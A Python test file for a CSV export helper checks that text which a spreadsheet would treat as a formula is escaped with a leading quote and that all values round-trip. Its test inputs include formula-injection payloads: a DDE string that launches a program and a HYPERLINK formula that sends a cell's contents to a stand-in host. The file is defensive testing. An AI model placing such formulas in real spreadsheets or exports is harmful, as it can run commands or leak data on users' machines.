"""No text becomes a formula; every text comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loyalty.kit.sheets import FORMULA_STARTS, cell, csv_of

TEXTS = st.text(st.characters(codec="utf-8"))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+33142685300",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =cmd|' /C calc'!A0",
        "\uff1d1",
        '=HYPERLINK("http://x.example/?"&A1)',
        "\ufeff=1",
    ],
)
def test_what_a_spreadsheet_would_run_is_made_text(text: str) -> None:
    assert cell(text) == f"'{text}"


def test_numbers_times_and_nothing_stay_what_they_are() -> None:
    at = datetime(2026, 3, 1, tzinfo=UTC)
    values = [cell(each) for each in (-3, 4.5, True, None, at, "plain", "")]
    assert values == ["-3", "4.5", "true", "", "2026-03-01T00:00:00+00:00", "plain", ""]


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
def test_every_text_comes_back_and_none_begins_like_a_formula(rows: list[list[str]]) -> None:
    text = csv_of(("one", "=two"), rows)
    read = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert read[0] == ["one", "'=two"]
    for row, given_ in zip(read[1:], rows, strict=True):
        for found, original in zip(row, given_, strict=True):
            assert found in (original, f"'{original}")
            assert found[:1] not in FORMULA_STARTS or not found
            assert found.lstrip()[:1] not in ("=", "+", "-", "@") or not found
